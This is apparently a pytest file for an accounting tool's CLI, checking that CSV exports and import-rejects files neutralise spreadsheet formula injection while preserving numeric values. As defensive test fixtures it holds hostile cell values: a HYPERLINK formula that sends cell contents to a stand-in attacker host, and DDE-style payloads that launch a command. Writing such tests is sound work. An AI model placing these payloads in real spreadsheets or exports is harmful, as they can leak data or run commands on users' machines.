"""Files Relance writes for spreadsheets cannot run formulas (OWASP's CSV-injection rule).

A text cell starting with `=`, `+`, `-`, `@`, a tab or a line break is written behind a single
quote, so a spreadsheet shows it as text instead of running it; numbers, negative ones included,
are written as they are. Every test reads the written file back.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest

from app.cli import main
from app.db.migrate import Database, open_database
from app.domain.calendar import Clock
from app.domain.cells import inert, inert_row, restored
from app.services import ledger
from app.services.settings import Preferences, save_preferences

CLOCK = Clock.fixed(date(2026, 11, 22))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "@SUM(1+1)*cmd|' /C calc'!A0"


def run(capsys: pytest.CaptureFixture[str], db: Path, *args: str) -> tuple[int, str, str]:
    try:
        code = main(["--db", str(db), *args])
    except SystemExit as exit_info:
        code = int(exit_info.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def english_book(db_path: Path) -> Database:
    database = open_database(db_path)
    with database.session_factory.begin() as session:
        save_preferences(session, Preferences(language="en"))
    return database


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+33 4 72 00 00 00", "'+33 4 72 00 00 00"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        (CMD, "'" + CMD),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Dupont & Fils", "Dupont & Fils"),
        ("", ""),
        # numbers stay numbers, written as text or not
        ("-12.50", "-12.50"),
        ("-12,50", "-12,50"),
        ("+5", "+5"),
        ("1234.56", "1234.56"),
        (-1250, -1250),
        (3, 3),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_are_not(
    value: object, written: object
) -> None:
    assert inert(value) == written
    if isinstance(value, str):
        assert restored(str(written)) == value


def test_a_row_keeps_its_numbers_and_quotes_its_formulas() -> None:
    assert inert_row([3, "-0.01", "=1+2", None]) == [3, "-0.01", "'=1+2", None]


def test_aging_csv_quotes_a_hostile_name_and_reference_and_keeps_the_amounts(
    db_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    database = english_book(db_path)
    with database.session_factory.begin() as session:
        customer = ledger.create_customer(session, CLOCK, ref="-411EVIL", name=FORMULA)
        ledger.add_invoice(
            session,
            CLOCK,
            customer_id=customer.id,
            number="FA-1",
            issue_date=date(2026, 7, 1),
            amount_cents=125050,
        )
    database.dispose()

    code, out, _err = run(capsys, db_path, "aging", "--as-of", "2026-11-22", "--format", "csv")

    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert (rows[0]["customer_ref"], rows[0]["name"]) == ("'-411EVIL", "'" + FORMULA)
    assert (rows[0]["over_90"], rows[0]["total"]) == ("1250.50", "1250.50")
    # JSON is for programs, not spreadsheets: it keeps the values as they are
    code, out, _err = run(capsys, db_path, "aging", "--as-of", "2026-11-22", "--format", "json")
    assert json.loads(out)["customers"][0]["name"] == FORMULA


def test_the_rejects_file_quotes_formulas_keeps_numbers_and_imports_back_as_it_was(
    db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    english_book(db_path).dispose()
    source = tmp_path / "clients.csv"
    rows = [
        ["Code client", "Raison sociale", "Téléphone", "Délai de paiement", "=Note"],
        ["411EVIL", FORMULA, "+33 4 72 00 00 00", "-5", CMD],  # refused: negative terms
    ]
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows(rows)

    code, out, _err = run(capsys, db_path, "import", "customers", str(source), "--skip-invalid")

    assert code == 0, out
    rejects = tmp_path / "clients.rejects.csv"
    with rejects.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle, delimiter=";"))
    assert written[0] == ["line", "column", "reason", *rows[0][:4], "'=Note"]
    assert written[1][3:] == ["411EVIL", "'" + FORMULA, "'+33 4 72 00 00 00", "-5", "'" + CMD]

    # corrected in the rejects file, it imports back with the values as they were
    written[1][6] = "30"
    with rejects.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows(written)
    code, out, err = run(capsys, db_path, "import", "customers", str(rejects), "--format", "json")
    assert (code, json.loads(out)["created"]) == (0, 1), err
    database = open_database(db_path, backup=False)
    with database.session_factory() as session:
        customer = ledger.customer_by_ref(session, "411EVIL")
        assert (customer.name, customer.contacts[0].phone) == (FORMULA, "+33 4 72 00 00 00")
    database.dispose()


def test_the_fec_rejects_file_quotes_formulas(
    db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    english_book(db_path).dispose()
    headers = (
        "JournalCode\tJournalLib\tEcritureNum\tEcritureDate\tCompteNum\tCompteLib\tCompAuxNum\t"
        "CompAuxLib\tPieceRef\tPieceDate\tEcritureLib\tDebit\tCredit\tEcritureLet\tDateLet\t"
        "ValidDate\tMontantdevise\tIdevise"
    )
    line = "VT\tVentes\t1\t20261001\t411000\tClients\tC001\t@EVIL\tFA-1\t20261001\t=1+1\tdix\t0,00"
    path = tmp_path / "FEC.txt"
    path.write_text(headers + "\n" + line + "\t\t\t\t\t\n", encoding="utf-8")

    code, _out, _err = run(capsys, db_path, "import", "fec", str(path), "--skip-invalid")

    assert code == 0
    with (tmp_path / "FEC.rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle, delimiter=";"))
    assert written[1][3:17] == [
        "VT",
        "Ventes",
        "1",
        "20261001",
        "411000",
        "Clients",
        "C001",
        "'@EVIL",
        "FA-1",
        "20261001",
        "'=1+1",
        "dix",
        "0,00",
        "",
    ]
